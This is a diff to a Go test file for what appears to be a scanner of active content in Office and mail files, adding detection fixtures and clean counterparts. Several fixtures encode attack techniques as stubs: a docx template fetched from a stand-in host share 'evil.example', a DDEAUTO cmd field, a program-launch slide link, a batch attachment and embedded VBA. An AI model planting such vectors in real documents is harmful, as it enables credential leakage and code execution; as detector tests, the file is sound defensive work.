@@ -200,6 +200,10 @@ func TestActiveContentIsFound(t *testing.T) {
 		{"dde.doc", cfbtest.Build(map[string][]byte{"WordDocument": []byte(strings.Repeat("\x00", 600) + "\x13 DDEAUTO cmd \x14x\x15")}), "doc", []Kind{DDE}},
 		{"dde wide.doc", cfbtest.Build(map[string][]byte{"WordDocument": []byte(strings.Repeat("\x00", 600) + utf16le("\x13 DDEAUTO cmd \x14x\x15"))}), "doc", []Kind{DDE}},
 		{"object.doc", cfbtest.Build(map[string][]byte{"WordDocument": []byte("x"), "ObjectPool/_123/\x01Ole10Native": native("a.exe", exe)}), "doc", []Kind{Executable, OLE}},
+		{"program.pptx", pack(`[Content_Types].xml=<Types><Override ContentType="application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml"/></Types>`, `ppt/slides/slide1.xml=<a:hlinkClick action="ppaction://program" r:id="r2"/>`), "pptx", []Kind{Launch}},
+		{"share template.docx", docx("word/_rels/settings.xml.rels=" + rel("attachedTemplate", "file://\\\\evil.example\\t.dotm", "External")), "docx", []Kind{External}},
+		{"a.msg", cfbtest.Build(map[string][]byte{"__properties_version1.0": []byte("x"), "__attach_version1.0_#00000000/__substg1.0_37010102": []byte(strings.Repeat("del x\r\n", 600)), "__attach_version1.0_#00000000/__substg1.0_3707001F": []byte(utf16le("a.bat"))}), "msg", []Kind{Script}},
+		{"page.mht", []byte("MIME-Version: 1.0\nContent-Type: multipart/related; boundary=b\n\n--b\nContent-Type: text/html\n\n<html>x</html>\n--b\nContent-Type: application/x-mso\nContent-Location: editdata.mso\nContent-Transfer-Encoding: base64\n\n" + base64.StdEncoding.EncodeToString(append(append([]byte("ActiveMime"), make([]byte, 40)...), deflate(vba)...)) + "\n--b--"), "eml", []Kind{VBA}},
 		{"control.doc", cfbtest.Build(map[string][]byte{"WordDocument": []byte("x"), "ObjectPool/_1/\x03OCXNAME": []byte("x")}), "doc", []Kind{ActiveX, OLE}},
 		{"xlm.xls", xls(record(0x85, append([]byte{0, 0, 0, 0, 2, 1}, "Macro1"...))), "xls", []Kind{XLM}},
 		{"vba.xls", cfbtest.Build(map[string][]byte{"Workbook": biff(), "_VBA_PROJECT_CUR/VBA/dir": []byte("x")}), "xls", []Kind{VBA}},
@@ -283,6 +287,8 @@ func TestHarmlessFilesAreClean(t *testing.T) {
 		wantType string
 	}{
 		{"a.docx", docx("word/_rels/document.xml.rels=" + rel("hyperlink", "https://city.example.jp/", "External")), "docx"},
+		{"own template.docx", docx("word/_rels/settings.xml.rels=" + rel("attachedTemplate", "file:///C:\\Users\\yamada\\Normal.dotm", "External")), "docx"},
+		{"linked.xlsx", pack("[Content_Types].xml="+xlsxMain, "xl/externalLinks/externalLink1.xml=<externalLink><externalBook r:id=\"r1\"/></externalLink>", "xl/externalLinks/_rels/externalLink1.xml.rels="+rel("externalLinkPath", "file:///C:\\work\\a.xlsx", "External")), "xlsx"},
 		{"b.docx", docxBody(`<w:instrText>PAGEREF _Toc1</w:instrText><w:t>DDE について</w:t>`), "docx"},
 		{"a.xlsx", pack("[Content_Types].xml="+xlsxMain, "xl/workbook.xml=<workbook/>", "xl/worksheets/sheet1.xml=<f>SUM(A1:A2)</f>"), "xlsx"},
 		{"a.doc", cfbtest.Build(map[string][]byte{"WordDocument": []byte("\x13 PAGE \x14"), "1Table": []byte("x")}), "doc"},
